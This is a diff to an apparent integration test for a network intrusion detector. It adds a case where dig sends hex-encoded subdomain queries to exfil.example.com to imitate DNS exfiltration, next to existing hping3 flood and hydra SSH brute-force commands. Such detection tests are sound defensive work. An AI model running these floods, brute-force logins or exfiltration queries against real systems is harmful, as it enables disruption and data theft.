@@ -7,6 +7,7 @@ import assert from 'node:assert/strict';
 import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
 import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
+import { createHash } from 'node:crypto';
 import { join } from 'node:path';
 import type { EveAlert } from '../../src/alert/eve-alert.js';
 import { CLI } from '../support/corpus.js';
@@ -98,6 +99,12 @@ const ATTACKS: Case[] = [
   { name: 'hping3 ICMP flood', cmd: () => ['hping3', '-q', '-1', '-i', 'u500', '-c', '3000', net.ipA], seconds: 20, detector: 'icmp_flood', sid: 9100401 },
   { name: 'hping3 UDP flood', cmd: () => ['hping3', '-q', '-2', '-p', '9999', '-i', 'u100', '-c', '12000', net.ipA], seconds: 20, detector: 'udp_flood', sid: 9100501 },
   {
+    name: 'dig exfiltrating data in long random subdomains',
+    cmd: () => ['dig', `@${net.ipA}`, '-f', join(dir, 'exfil-names.txt'), '+tries=1', '+time=1'], seconds: 30,
+    detector: 'dns_tunnel', sid: 9100901,
+    extra: (a) => assert.equal(a.netwatch.evidence.domain, 'example.com'),
+  },
+  {
     name: 'hydra against sshd',
     cmd: () => ['hydra', '-l', 'admin', '-P', join(dir, 'passwords.txt'), '-t', '16', '-I', `ssh://${net.ipA}`], seconds: 30,
     detector: 'brute_force', sid: 9100701, extra: (a) => assert.equal(a.dest_port, 22),
@@ -112,6 +119,9 @@ const ATTACKS: Case[] = [
 for (const c of ATTACKS) {
   test(`${c.name} raises ${c.detector} naming the attacker within 10 s`, { timeout: 120_000 }, async () => {
     writeFileSync(join(dir, 'passwords.txt'), Array.from({ length: 40 }, (_, i) => `wrong-password-${i}`).join('\n') + '\n');
+    // 60 queries whose first label carries 40 hex digits of "data", as DNS exfiltration tools send.
+    writeFileSync(join(dir, 'exfil-names.txt'), Array.from({ length: 60 }, (_, i) =>
+      `${createHash('sha256').update(`chunk-${i}`).digest('hex').slice(0, 40)}.${i}.exfil.example.com TXT`).join('\n') + '\n');
     const cap = await startCapture();
     const started = Date.now();
     const gen = attack(c.cmd(), c.seconds);
